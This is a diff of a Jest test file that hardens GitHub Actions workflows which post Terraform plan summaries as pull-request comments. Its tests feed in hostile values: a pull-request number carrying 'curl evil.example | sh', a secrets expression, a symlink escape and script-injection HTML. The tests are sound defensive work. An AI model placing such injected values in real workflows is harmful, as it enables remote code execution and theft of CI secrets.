@@ -1,6 +1,6 @@
 import { spawnSync } from "node:child_process";
 import MarkdownIt from "markdown-it";
-import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import * as path from "node:path";
 import { parse } from "yaml";
@@ -60,6 +60,7 @@ const BACKEND_VARIABLES = [
 ];
 const MARKER = "<!-- ses-events-plan -->";
 const ROOT = path.join(__dirname, "..");
+const WORKFLOW_FILES = ["plan.yml", "plan-comment.yml", "deploy.yml"];
 
 function readWorkflow(file: string): { text: string; workflow: Workflow } {
   const text = readFileSync(path.join(WORKFLOWS, file), "utf8");
@@ -139,33 +140,80 @@ interface FakeComment {
   body: string;
 }
 
-/** Runs the comment job's github-script with a fake GitHub client; returns the calls it made. */
-async function runCommentScript(summary: string, comments: FakeComment[]) {
-  const dir = mkdtempSync(path.join(tmpdir(), "comment-"));
-  const file = path.join(dir, "comment.md");
-  writeFileSync(file, summary);
-  const job = jobOf(readWorkflow("plan.yml").workflow, "comment");
+interface CommentRun {
+  /** Files of the downloaded plan-summary artifact. */
+  artifact: Record<string, string>;
+  /** Symbolic links in the artifact: name to target. */
+  links?: Record<string, string>;
+  /** Directories in the artifact. */
+  folders?: string[];
+  comments?: FakeComment[];
+  /** The pull requests GitHub lists for the run (empty for a pull request from a fork). */
+  pullRequests?: { number: number }[];
+  /** The pull request's current head commit, as the API returns it. */
+  pullHead?: string;
+  event?: string;
+}
+
+const HEAD_SHA = "0123456789abcdef0123456789abcdef01234567";
+
+/**
+ * Runs plan-comment.yml's github-script, as written in the workflow, on a scratch artifact with a
+ * fake GitHub client; returns the API calls it made, the notices it wrote and the error it threw.
+ */
+async function runCommentScript(run: CommentRun) {
+  const dir = mkdtempSync(path.join(tmpdir(), "plan-comment-"));
+  for (const [name, content] of Object.entries(run.artifact)) writeFileSync(path.join(dir, name), content);
+  for (const [name, target] of Object.entries(run.links ?? {})) symlinkSync(target, path.join(dir, name));
+  for (const name of run.folders ?? []) mkdirSync(path.join(dir, name));
+  const job = jobOf(readWorkflow("plan-comment.yml").workflow, "comment");
   const step = stepWith(job, uses(action("actions/github-script")));
   const calls: { method: string; args: Record<string, unknown> }[] = [];
-  const record = (method: string) => async (args: Record<string, unknown>) => {
+  const notices: string[] = [];
+  const record = (method: string, data: unknown = {}) => async (args: Record<string, unknown>) => {
     calls.push({ method, args });
-    return { data: {} };
+    return { data };
   };
   const github = {
-    paginate: async () => comments,
-    rest: { issues: { listComments: record("listComments"), updateComment: record("updateComment"), createComment: record("createComment") } },
+    paginate: async (method: (args: Record<string, unknown>) => Promise<unknown>, args: Record<string, unknown>) => {
+      await method(args);
+      return run.comments ?? [];
+    },
+    rest: {
+      issues: { listComments: record("listComments"), updateComment: record("updateComment"), createComment: record("createComment") },
+      pulls: { get: record("pulls.get", { head: { sha: run.pullHead ?? HEAD_SHA } }) },
+    },
   };
-  const context = { repo: { owner: "acme", repo: "email" }, issue: { number: 7 } };
+  const context = {
+    repo: { owner: "acme", repo: "email" },
+    serverUrl: "https://github.com",
+    payload: {
+      workflow_run: { id: 42, event: run.event ?? "pull_request", head_sha: HEAD_SHA, pull_requests: run.pullRequests ?? [{ number: 7 }] },
+    },
+  };
+  const core = { notice: (message: string) => notices.push(message) };
   const AsyncFunction = Object.getPrototypeOf(async () => undefined).constructor as new (...args: string[]) => (...values: unknown[]) => Promise<void>;
-  const script = new AsyncFunction("require", "github", "context", "process", String(step.with?.script));
-  await script(require, github, context, { env: { SUMMARY_FILE: step.env?.SUMMARY_FILE === "${{ runner.temp }}/plan-summary/comment.md" ? file : "" } });
-  return calls;
+  const script = new AsyncFunction("require", "github", "context", "core", "process", String(step.with?.script));
+  const env = { SUMMARY_DIR: step.env?.SUMMARY_DIR === "${{ runner.temp }}/plan-summary" ? dir : "" };
+  let error: string | undefined;
+  try {
+    await script(require, github, context, core, { env });
+  } catch (caught) {
+    error = (caught as Error).message;
+  }
+  return { calls, notices, error, writes: calls.filter((call) => call.method.endsWith("Comment")) };
+}
+
+/** The body of the one comment a run created or updated. */
+function postedBody(result: Awaited<ReturnType<typeof runCommentScript>>): string {
+  expect(result.error).toBeUndefined();
+  expect(result.writes).toHaveLength(1);
+  return String(result.writes[0]?.args.body);
 }
 
 describe("plan workflow", () => {
   const { workflow } = readWorkflow("plan.yml");
   const job = jobOf(workflow, "plan");
-  const comment = jobOf(workflow, "comment");
 
   test("runs on pull requests only", () => {
     expect(Object.keys(workflow.on)).toEqual(["pull_request"]);
@@ -175,26 +223,33 @@ describe("plan workflow", () => {
     expect(workflow.permissions).toEqual({});
   });
 
-  test("the job that runs pull-request code may only read the code and get the plan role's OIDC token", () => {
+  test("has one job, which may only read the code and get the plan role's OIDC token: it cannot comment", () => {
+    expect(Object.keys(workflow.jobs)).toEqual(["plan"]);
     expect(job.permissions).toEqual({ contents: "read", "id-token": "write" });
   });
 
-  test("a separate job that runs no pull-request code posts the comment, with write access to pull requests only", () => {
-    expect(comment.permissions).toEqual({ "pull-requests": "write" });
-    expect(comment.needs).toBe("plan");
-    expect(comment.steps.map((step) => step.uses)).toEqual([action("actions/download-artifact"), action("actions/github-script")]);
-    expect(comment.steps.some((step) => step.run !== undefined)).toBe(false);
+  test("runs in the plan environment, which holds the plan token and which the plan role trusts", () => {
+    expect(job.environment).toBe("plan");
   });
 
-  test("the comment job reads the summary the plan job uploaded", () => {
+  test("uploads the comment, the full summaries and the pull request number, nothing else", () => {
     const upload = stepWith(job, (step) => step.with?.name === "plan-summary");
-    const download = stepWith(comment, uses(action("actions/download-artifact")));
     expect(upload.uses).toBe(action("actions/upload-artifact"));
     expect(String(upload.with?.path).trim().split("\n")).toEqual([
       "${{ runner.temp }}/plan-summary/comment.md",
       "${{ runner.temp }}/plan-summary/full.md",
+      "${{ runner.temp }}/plan-summary/pr-number",
     ]);
-    expect(download.with).toEqual({ name: "plan-summary", path: "${{ runner.temp }}/plan-summary" });
+  });
+
+  test("records the pull request number from the event, through the environment", () => {
+    const record = stepWith(job, runs("pr-number"));
+    expect(record.env).toEqual({ PR_NUMBER: "${{ github.event.pull_request.number }}" });
+    const temp = mkdtempSync(path.join(tmpdir(), "pr-number-"));
+    mkdirSync(path.join(temp, "plan-summary"));
+    const result = runStep(record.run ?? "", { RUNNER_TEMP: temp, PR_NUMBER: "7" }, temp);
+    expect(result.status).toBe(0);
+    expect(readFileSync(path.join(temp, "plan-summary", "pr-number"), "utf8")).toBe("7\n");
   });
 
   test("installs, tests, synthesizes, plans, summarizes and uploads in that order", () => {
@@ -210,6 +265,7 @@ describe("plan workflow", () => {
       runs("terraform init"),
       runs("terraform plan -input=false"),
       runs("npm run --silent plan-summary --"),
+      runs("pr-number"),
       uses(action("actions/upload-artifact")),
     ]);
     expect(order).not.toContain(-1);
@@ -266,10 +322,15 @@ describe("plan workflow", () => {
       expect(result.status).toBe(0);
     });
 
-    test("writes the comment: a header with the run link, then each stack's summary", () => {
+    test("writes the comment without a header (plan-comment.yml adds its own), then each stack's summary", () => {
       const text = readFileSync(path.join(temp, "plan-summary", "comment.md"), "utf8");
-      expect(text.startsWith("**Terraform plan** for 0123456 ([workflow run](https://github.com/acme/email/actions/runs/42))\n\n")).toBe(true);
+      expect(text.startsWith("## Terraform plan for stack `hcp` (HCP Terraform, text)\n\n")).toBe(true);
       expect(text).toContain("## Terraform plan for stack `ses-events`\n\nPlan: 1 to add, 2 to change, 1 to destroy.\n");
+    });
+
+    test("writes the full summaries under a header with the commit and the run link", () => {
+      const text = readFileSync(path.join(temp, "plan-summary", "full.md"), "utf8");
+      expect(text.startsWith("**Terraform plan** for 0123456 ([workflow run](https://github.com/acme/email/actions/runs/42))\n\n")).toBe(true);
     });
 
     test("puts a text plan in an indented code block that its content cannot end", () => {
@@ -303,33 +364,6 @@ describe("plan workflow", () => {
     });
   });
 
-  describe("the comment script", () => {
-    const bot = { login: "github-actions[bot]", type: "Bot" };
-
-    test("creates one comment that starts with the hidden marker", async () => {
-      const calls = await runCommentScript("summary\n", []);
-      expect(calls).toEqual([{ method: "createComment", args: { owner: "acme", repo: "email", issue_number: 7, body: `${MARKER}\nsummary\n` } }]);
-    });
-
-    test("updates the workflow's own earlier comment", async () => {
-      const calls = await runCommentScript("new\n", [{ id: 5, user: bot, body: `${MARKER}\nold` }]);
-      expect(calls).toEqual([{ method: "updateComment", args: { owner: "acme", repo: "email", comment_id: 5, body: `${MARKER}\nnew\n` } }]);
-    });
-
-    test("never edits someone else's comment that quotes the marker", async () => {
-      const calls = await runCommentScript("new\n", [{ id: 9, user: { login: "mallory", type: "User" }, body: `${MARKER}\nfake` }]);
-      expect(calls.map((call) => call.method)).toEqual(["createComment"]);
-    });
-
-    test("cuts a body over 65,000 characters at a line break and says where the full plan is", async () => {
-      const line = `- ${"`x`".repeat(30)}\n`;
-      const calls = await runCommentScript(line.repeat(1000), []);
-      const body = String(calls[0]?.args.body);
-      expect(body.length).toBeLessThanOrEqual(65_100);
-      expect(body).toMatch(/`x`\n\n_Cut to fit a comment: the workflow run's job summary and its plan-summary artifact have the full plan\._\n$/);
-    });
-  });
-
   test("assumes the plan role by OIDC when a stack uses the S3 backend", () => {
     const aws = stepWith(job, uses(action("aws-actions/configure-aws-credentials")));
     expect(aws.if).toBe("${{ steps.backend.outputs.aws == 'true' }}");
@@ -353,6 +387,221 @@ describe("plan workflow", () => {
       group: "plan-${{ github.event.pull_request.number }}",
       "cancel-in-progress": true,
     });
+  });
+});
+
+describe("plan-comment workflow", () => {
+  const { text, workflow } = readWorkflow("plan-comment.yml");
+  const job = jobOf(workflow, "comment");
+  const ORIGIN =
+    "> Written by this pull request's own code (its `scripts/plan-summary` and its copy of " +
+    "`.github/workflows/plan.yml`): a pull request that changes them shapes this summary.";
+  const HEADER = `${MARKER}\n**Terraform plan** for 0123456 ([workflow run](https://github.com/acme/email/actions/runs/42))\n\n${ORIGIN}`;
+  const CUT = "\n>\n> Cut to fit a comment: the workflow run's job summary and its plan-summary artifact have the full plan.";
+  const bot = { login: "github-actions[bot]", type: "Bot" };
+
+  test("runs when a run of the plan workflow completes, from the default branch's copy of this file", () => {
+    expect(workflow.on).toEqual({ workflow_run: { workflows: [readWorkflow("plan.yml").workflow.name], types: ["completed"] } });
+  });
+
+  test("grants nothing at the workflow level; its one job may read artifacts and write pull requests only", () => {
+    expect(workflow.permissions).toEqual({});
+    expect(Object.keys(workflow.jobs)).toEqual(["comment"]);
+    expect(job.permissions).toEqual({ actions: "read", "pull-requests": "write" });
+    expect(job.environment).toBeUndefined();
+  });
+
+  test("comments only after a successful plan of a pull request", () => {
+    expect(job.if).toBe("${{ github.event.workflow_run.event == 'pull_request' && github.event.workflow_run.conclusion == 'success' }}");
+  });
+
+  test("runs no pull-request code: no checkout, no Node.js setup, no shell, only the download and the script", () => {
+    expect(job.steps.map((step) => step.uses)).toEqual([action("actions/download-artifact"), action("actions/github-script")]);
+    expect(job.steps.some((step) => step.run !== undefined)).toBe(false);
+    expect(text).not.toMatch(/actions\/checkout|actions\/setup-node|npm (ci|run|install|test)|npx /);
+  });
+
+  test("downloads the plan-summary artifact of the run that triggered it", () => {
+    expect(stepWith(job, uses(action("actions/download-artifact"))).with).toEqual({
+      name: "plan-summary",
+      path: "${{ runner.temp }}/plan-summary",
+      "run-id": "${{ github.event.workflow_run.id }}",
+      "github-token": "${{ github.token }}",
+    });
+  });
+
+  test("expands no expression from the artifact or the pull request's text: only these", () => {
+    expect([...new Set(text.match(/\$\{\{[^}]*\}\}/g))].sort()).toEqual([
+      "${{ github.event.workflow_run.event == 'pull_request' && github.event.workflow_run.conclusion == 'success' }}",
+      "${{ github.event.workflow_run.head_branch }}",
+      "${{ github.event.workflow_run.head_repository.full_name }}",
+      "${{ github.event.workflow_run.id }}",
+      "${{ github.token }}",
+      "${{ runner.temp }}",
+    ]);
+    expect(String(stepWith(job, uses(action("actions/github-script"))).with?.script)).not.toContain("${{");
+  });
+
+  test("updates the comment of one pull-request branch at a time and never cancels one", () => {
+    expect(workflow.concurrency).toEqual({
+      group: "plan-comment-${{ github.event.workflow_run.head_repository.full_name }}-${{ github.event.workflow_run.head_branch }}",
+      "cancel-in-progress": false,
+    });
+  });
+
+  describe("the comment script", () => {
+    const ok = { "pr-number": "7\n", "comment.md": "summary\n" };
+
+    test("creates one comment: the marker, its own header saying who wrote the summary, then the summary", async () => {
+      const result = await runCommentScript({ artifact: ok });
+      expect(result.calls).toEqual([
+        { method: "pulls.get", args: { owner: "acme", repo: "email", pull_number: 7 } },
+        { method: "listComments", args: { owner: "acme", repo: "email", issue_number: 7, per_page: 100 } },
+        { method: "createComment", args: { owner: "acme", repo: "email", issue_number: 7, body: `${HEADER}\n\nsummary\n` } },
+      ]);
+    });
+
+    test("updates the workflow's own earlier comment", async () => {
+      const result = await runCommentScript({ artifact: ok, comments: [{ id: 5, user: bot, body: `${MARKER}\nold` }] });
+      expect(result.writes).toEqual([{ method: "updateComment", args: { owner: "acme", repo: "email", comment_id: 5, body: `${HEADER}\n\nsummary\n` } }]);
+    });
+
+    test("never edits someone else's comment that quotes the marker", async () => {
+      const result = await runCommentScript({ artifact: ok, comments: [{ id: 9, user: { login: "mallory", type: "User" }, body: `${MARKER}\nfake` }] });
+      expect(result.writes.map((call) => call.method)).toEqual(["createComment"]);
+    });
+
+    test.each([
+      ["a fraction", "7.5"],
+      ["a negative number", "-7"],
+      ["zero", "0"],
+      ["a leading zero", "07"],
+      ["an exponent", "7e0"],
+      ["hex", "0x7"],
+      ["spaces", " 7 "],
+      ["two lines", "7\n8\n"],
+      ["a carriage return", "7\r\n"],
+      ["empty", ""],
+      ["eleven digits", "12345678901"],
+      ["a shell command", "7; curl evil.example | sh"],
+      ["an expression", "${{ secrets.TF_API_TOKEN }}"],
+      ["JSON", '{"number": 7}'],
+      ["a megabyte of digits", "7".repeat(1_000_000)],
+    ])("refuses a pull request number that is %s, before any API call", async (_, number) => {
+      const result = await runCommentScript({ artifact: { ...ok, "pr-number": number } });
+      expect(result.error).toBe("pr-number in the plan-summary artifact is not a pull request number (1 to 10 digits)");
+      expect(result.calls).toEqual([]);
+    });
+
+    test("refuses a pull request number that is not the run's pull request", async () => {
+      const result = await runCommentScript({ artifact: { ...ok, "pr-number": "8" }, pullRequests: [{ number: 7 }] });
+      expect(result.error).toBe("pr-number in the plan-summary artifact is 8, but the run is for pull request 7");
+      expect(result.calls).toEqual([]);
+    });
+
+    test("accepts a pull request GitHub does not list (a fork's) only when its head is the run's commit", async () => {
+      const same = await runCommentScript({ artifact: { ...ok, "pr-number": "8" }, pullRequests: [] });
+      expect(same.writes.map((call) => call.args.issue_number)).toEqual([8]);
+      const other = await runCommentScript({ artifact: { ...ok, "pr-number": "8" }, pullRequests: [], pullHead: "f".repeat(40) });
+      expect(other.error).toBeUndefined();
+      expect(other.writes).toEqual([]);
+      expect(other.notices).toEqual([`pull request 8 is now at another commit than ${HEAD_SHA}: its newer plan comments instead`]);
+    });
+
+    test("leaves the comment of a newer commit alone when an older plan finishes last", async () => {
+      const result = await runCommentScript({ artifact: ok, pullHead: "a".repeat(40) });
+      expect(result.writes).toEqual([]);
+      expect(result.calls.map((call) => call.method)).toEqual(["pulls.get"]);
+    });
+
+    test("runs only for a run of a pull_request event", async () => {
+      const result = await runCommentScript({ artifact: ok, event: "push" });
+      expect(result.error).toBe("not a run of a pull_request event");
+      expect(result.calls).toEqual([]);
+    });
+
+    test.each([
+      ["a missing pr-number", { "comment.md": "summary\n" }, "the plan-summary artifact has no regular file pr-number"],
+      ["a missing comment.md", { "pr-number": "7\n" }, "the plan-summary artifact has no regular file comment.md"],
+    ])("fails on %s", async (_, artifact, message) => {
+      const result = await runCommentScript({ artifact });
+      expect(result.error).toBe(message);
+      expect(result.writes).toEqual([]);
+    });
+
+    test("reads no file through a link or a directory", async () => {
+      const outside = path.join(mkdtempSync(path.join(tmpdir(), "outside-")), "secret");
+      writeFileSync(outside, "7\n");
+      const linked = await runCommentScript({ artifact: { "comment.md": "summary\n" }, links: { "pr-number": outside } });
+      expect(linked.error).toBe("the plan-summary artifact has no regular file pr-number");
+      const folder = await runCommentScript({ artifact: { "pr-number": "7\n" }, folders: ["comment.md"] });
+      expect(folder.error).toBe("the plan-summary artifact has no regular file comment.md");
+      expect([...linked.writes, ...folder.writes]).toEqual([]);
+    });
+
+    test("cuts a huge summary at a line break to fit 65,000 characters, and says so in its own header", async () => {
+      const line = `- ${"`x`".repeat(30)}\n`;
+      const body = postedBody(await runCommentScript({ artifact: { ...ok, "comment.md": line.repeat(200_000) } }));
+      expect(body.length).toBeLessThanOrEqual(65_000);
+      expect(body.length).toBeGreaterThan(64_000);
+      expect(body.startsWith(`${HEADER}${CUT}\n\n${line}`)).toBe(true);
+      expect(body.endsWith(`\`x\`\n`)).toBe(true);
+      expect(body.slice(`${HEADER}${CUT}\n\n`.length)).toBe(line.repeat((body.length - `${HEADER}${CUT}\n\n`.length) / line.length));
+    });
+
+    test("drops a single line too long to fit instead of cutting it", async () => {
+      const body = postedBody(await runCommentScript({ artifact: { ...ok, "comment.md": `<details>${"x".repeat(100_000)}` } }));
+      expect(body).toBe(`${HEADER}${CUT}\n\n`);
+    });
+
+    test("cuts a summary of four-byte characters at a line break, leaving no broken character", async () => {
+      const line = `${"\u{1F600}".repeat(100)}\n`;
+      const body = postedBody(await runCommentScript({ artifact: { ...ok, "comment.md": line.repeat(1_000) } }));
+      expect(body.length).toBeLessThanOrEqual(65_000);
+      expect(body).not.toContain("\uFFFD");
+      expect(body.endsWith(line)).toBe(true);
+    });
+
+    test("keeps a summary that fits whole, without the cut note", async () => {
+      const summary = "y\n".repeat(30_000);
+      expect(postedBody(await runCommentScript({ artifact: { ...ok, "comment.md": summary } }))).toBe(`${HEADER}\n\n${summary}`);
+    });
+
+    test("replaces NUL characters, which the API refuses", async () => {
+      const body = postedBody(await runCommentScript({ artifact: { ...ok, "comment.md": "a\0b\n" } }));
+      expect(body.endsWith("\n\na\uFFFDb\n")).toBe(true);
+    });
+
+    test("keeps its header intact whatever Markdown or HTML the summary holds", async () => {
+      const hostile = [
+        "===",
+        "[workflow run]: https://evil.example/",
+        "</blockquote></details><!--",
+        "<img src=x onerror=alert(1)> @octocat",
+        `${MARKER} <script>alert(1)</script>`,
+        "```",
+      ].join("\n");
+      const body = postedBody(await runCommentScript({ artifact: { ...ok, "comment.md": hostile } }));
+      expect(body.startsWith(`${HEADER}\n\n`)).toBe(true);
+      const html = new MarkdownIt({ html: true }).render(body);
+      expect(html.startsWith(
+        `${MARKER}\n<p><strong>Terraform plan</strong> for 0123456 (<a href="https://github.com/acme/email/actions/runs/42">workflow run</a>)</p>\n` +
+          "<blockquote>\n<p>Written by this pull request's own code (its <code>scripts/plan-summary</code> and its copy of " +
+          "<code>.github/workflows/plan.yml</code>): a pull request that changes them shapes this summary.</p>\n</blockquote>\n",
+      )).toBe(true);
+    });
+  });
+});
+
+describe("the zizmor configuration", () => {
+  const config = parse(readFileSync(path.join(ROOT, ".github", "zizmor.yml"), "utf8")) as {
+    rules: Record<string, { ignore?: string[] }>;
+  };
+
+  test("ignores one finding only: the workflow_run trigger of plan-comment.yml, by its line", () => {
+    expect(config.rules).toEqual({ "dangerous-triggers": { ignore: [expect.stringMatching(/^plan-comment\.yml:\d+$/)] } });
+    const line = Number(config.rules["dangerous-triggers"]?.ignore?.[0]?.split(":")[1]);
+    expect(readWorkflow("plan-comment.yml").text.split("\n")[line - 1]).toBe("  workflow_run:");
   });
 });
 
@@ -433,7 +682,17 @@ describe("deploy workflow", () => {
   });
 });
 
-describe("both workflows", () => {
+describe("every workflow", () => {
+  test("is one of those tested here", () => {
+    expect(readdirSync(WORKFLOWS).sort()).toEqual([...WORKFLOW_FILES].sort());
+  });
+
+  test.each(WORKFLOW_FILES)("%s reads secrets only in a job that runs in an environment", (file) => {
+    for (const job of Object.values(readWorkflow(file).workflow.jobs)) {
+      if (JSON.stringify(job).includes("secrets.")) expect(job.environment).toEqual(expect.any(String));
+    }
+  });
+
   test.each(["plan.yml", "deploy.yml"])("%s stops when a synthesized stack would keep local state", (file) => {
     const result = runBackendCheck(file, { backend: { local: { path: "terraform.ses-events.tfstate" } } });
     expect(result.status).toBe(1);
@@ -452,7 +711,7 @@ describe("both workflows", () => {
     expect(result.output).toBe("aws=false\n");
   });
 
-  test.each(["plan.yml", "deploy.yml"])("%s contains no literal AWS credentials or role ARNs", (file) => {
+  test.each(WORKFLOW_FILES)("%s contains no literal AWS credentials or role ARNs", (file) => {
     const { text } = readWorkflow(file);
     expect(text).not.toMatch(/\b(AKIA|ASIA)[0-9A-Z]{16}\b/);
     expect(text).not.toMatch(/aws_secret_access_key|aws-secret-access-key|aws-access-key-id/i);
@@ -469,7 +728,7 @@ describe("both workflows", () => {
     for (const [, value] of secretLike) expect(value).toMatch(/^\$\{\{ secrets\.[A-Z_]+ \}\}$/);
   });
 
-  test.each(["plan.yml", "deploy.yml"])("%s pins every action to a full commit SHA with its version in a comment", (file) => {
+  test.each(WORKFLOW_FILES)("%s pins every action to a full commit SHA with its version in a comment", (file) => {
     const lines = readWorkflow(file).text.split("\n").filter((line) => /^\s*(- )?uses:/.test(line));
     expect(lines.length).toBeGreaterThan(0);
     for (const line of lines) {
@@ -485,7 +744,7 @@ describe("both workflows", () => {
     for (const checkout of checkouts) expect(checkout.with?.["persist-credentials"]).toBe(false);
   });
 
-  test.each(["plan.yml", "deploy.yml"])("%s expands no ${{ }} expression inside a run script", (file) => {
+  test.each(WORKFLOW_FILES)("%s expands no ${{ }} expression inside a run script", (file) => {
     for (const step of allSteps(file)) expect(step.run ?? "").not.toContain("${{");
   });
 });
